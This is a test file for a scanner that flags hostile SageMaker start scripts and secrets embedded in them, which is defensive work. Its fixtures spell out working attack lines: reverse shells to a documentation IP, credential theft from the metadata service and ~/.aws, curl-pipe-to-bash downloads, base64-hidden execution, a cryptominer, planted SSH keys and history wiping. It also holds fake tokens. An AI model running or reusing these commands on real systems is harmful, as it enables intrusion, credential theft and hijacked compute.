import { describe, expect, test } from 'vitest';
import { secretKinds } from '../../../shared/resources/sagemaker/script-secrets.ts';
import { suspiciousTraits } from '../../../shared/resources/sagemaker/script-traits.ts';

describe('what a start script does', () => {
  test.each([
    ['bash -i >& /dev/tcp/203.0.113.9/443 0>&1', 'opens a reverse shell'],
    ['nc -e /bin/sh 203.0.113.9 443', 'opens a reverse shell'],
    ['rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 443 > /tmp/f', 'opens a reverse shell'],
    ["socat TCP:203.0.113.9:443 EXEC:'bash -li'", 'opens a reverse shell'],
    [
      'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/BaseNotebookInstanceEc2InstanceRole',
      "reads the role's credentials from the metadata service",
    ],
    ['./xmrig -o stratum+tcp://pool.example:3333', 'mines a cryptocurrency'],
    ['curl -fsSL https://203.0.113.9/x.sh | sudo -E bash -', 'downloads a program and runs it unseen'],
    ['wget -qO- https://203.0.113.9/x.py | python3', 'downloads a program and runs it unseen'],
    ['bash <(curl -s https://203.0.113.9/x)', 'downloads a program and runs it unseen'],
    ['eval "$(curl -s https://203.0.113.9/x)"', 'downloads a program and runs it unseen'],
    ['curl -s \\\n https://203.0.113.9/x \\\n | sh', 'downloads a program and runs it unseen'],
    ['echo aWQ= | base64 -d | bash', 'runs code that it hides by an encoding'],
    ["python -c \"exec(__import__('base64').b64decode('aWQ='))\"", 'runs code that it hides by an encoding'],
    ['curl -F f=@/home/ec2-user/.aws/credentials https://203.0.113.9/', 'sends credentials away'],
    ['echo ssh-rsa AAAA >> /home/ec2-user/.ssh/authorized_keys', 'lets a key of its own in over SSH'],
    ['ssh -N -R 8443:localhost:8888 u@203.0.113.9', 'opens a tunnel to the outside'],
    ['unset HISTFILE', 'hides its traces'],
  ])('%s', (script, trait) => expect(suspiciousTraits(`#!/bin/bash\nset -e\n${script}\n`)).toEqual([trait]));

  test.each([
    [
      'stops an idle instance',
      '(crontab -l 2>/dev/null; echo "*/5 * * * * /usr/bin/python3 $PWD/autostop.py --time 3600") | crontab -',
    ],
    ['fetches the autostop script and keeps it', 'wget https://raw.githubusercontent.com/aws-samples/x/autostop.py'],
    [
      'installs conda from a file',
      'wget https://repo.anaconda.com/miniconda.sh -O ~/miniconda.sh\nbash ~/miniconda.sh -b -u',
    ],
    ['says so in a comment only', '# never do: curl https://x | bash'],
    ['asks for the instance type', 'TYPE=$(curl -s http://169.254.169.254/latest/meta-data/instance-type)'],
    ['filters an answer', 'curl -s https://api.example.com/version | jq -r .tag | tee version'],
    ['clones over SSH', 'ssh -T git@github.com; git clone git@github.com:team/repo.git'],
    ['decodes a certificate', 'echo "$CA" | base64 -d > /etc/pki/ca-trust/source/anchors/ca.pem'],
    ['reads its metadata', 'jq -r .ResourceName /opt/ml/metadata/resource-metadata.json'],
  ])('nothing suspicious: it %s', (_, script) => expect(suspiciousTraits(`#!/bin/bash\n${script}\n`)).toEqual([]));

  test('is read quickly, however hostile the script', () => {
    const started = performance.now();
    for (const piece of ['curl -d ', 'nc -e', 'ssh -R ', 'mkfifo |', 'password=', 'a://b:', '-eeeee', 'AKIA', '====']) {
      const script = piece.repeat(16_384 / piece.length);
      suspiciousTraits(script);
      secretKinds(script);
    }
    expect(performance.now() - started).toBeLessThan(3_000);
  });
});

// Put together here, so that no scanner takes this file for a leak.
const fake = (...parts: readonly string[]) => parts.join('');

describe('what secrets a script holds', () => {
  test.each([
    [fake('AKIA', 'QWERTYUIOPASDFGH'), 'an AWS access key'],
    [fake('export AWS_SECRET_ACCESS_KEY=', 'abcdefghij0123456789ABCDEFGHIJ0123456789'), 'an AWS secret access key'],
    [fake('-----BEGIN RSA PRIVATE', ' KEY-----'), 'a private key'],
    [fake('git clone https://ghp_', 'abcdefghijklmnopqrstuvwxyz0123456789', '@github.com/a/b'), 'a GitHub token'],
    [fake('huggingface-cli login --token hf_', 'abcdefghijklmnopqrstuvwxyzABCDEFGH'), 'a Hugging Face token'],
    [fake('pip install -i https://bot:', 's3cr3tW0rd', '@pypi.example.com/simple x'), 'a password in a URL'],
    [fake('export WANDB_API_KEY=', '0123456789abcdef0123456789abcdef01234567'), 'a password or token'],
    [fake('DB_PASSWORD="', 'correct4horse5battery', '"'), 'a password or token'],
  ])('%s', (script, kind) => expect(secretKinds(`#!/bin/bash\n${script}\n`)).toEqual([kind]));

  test.each([
    ['export TOKEN=$(aws secretsmanager get-secret-value --secret-id ml/token --query SecretString)'],
    ['DB_PASSWORD="${DB_PASSWORD}"'],
    ['PASSWORD=changeme'],
    ['TOKEN=your-token-1234567890'],
    ['SECRET_NAME=ml/churn'],
    ['pip install -i https://bot:$TOKEN@pypi.example.com/simple x'],
    ['git clone https://git@github.com/a/b'],
    ['export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE'],
    ['KEY_FILE=/etc/keys/id_rsa'],
  ])('none: %s', (script) => expect(secretKinds(`#!/bin/bash\n${script}\n`)).toEqual([]));
});
